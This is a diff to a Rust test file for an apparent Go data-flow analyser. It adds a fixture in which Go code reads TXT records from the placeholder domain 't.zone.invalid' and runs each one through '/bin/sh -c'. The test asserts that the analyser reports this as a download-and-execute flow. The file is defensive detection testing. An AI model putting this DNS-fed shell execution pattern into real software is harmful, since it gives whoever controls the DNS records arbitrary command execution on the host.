@@ -260,6 +260,14 @@ fn go_dns_txt_answer_decoded_and_run_by_a_shell_is_download_exec() {
     // A TXT record only read (an SPF check) runs nothing.
     let spf = "package d\n\nimport (\n\t\"fmt\"\n\t\"net\"\n)\n\nfunc spf() {\n\trecs, _ := net.LookupTXT(\"example.invalid\")\n\tfmt.Println(recs)\n}\n";
     assert_eq!(ends(&flows(&[("d/spf.go", spf)])), vec![]);
+    // A resolver of its own, each record run in a loop.
+    let own = "package d\n\nimport (\n\t\"context\"\n\t\"net\"\n\t\"os/exec\"\n)\n\n\
+               func poll() {\n\tr := &net.Resolver{PreferGo: true}\n\trecs, _ := r.LookupTXT(context.Background(), \"t.zone.invalid\")\n\
+               \tfor _, rec := range recs {\n\t\texec.Command(\"/bin/sh\", \"-c\", rec).Start()\n\t}\n}\n";
+    assert_eq!(
+        ends(&flows(&[("d/own.go", own)])),
+        vec![(RuleId::DownloadExec, "d/own.go".to_owned(), 13, Some("d/own.go".to_owned()), 11)]
+    );
 }
 
 #[test]
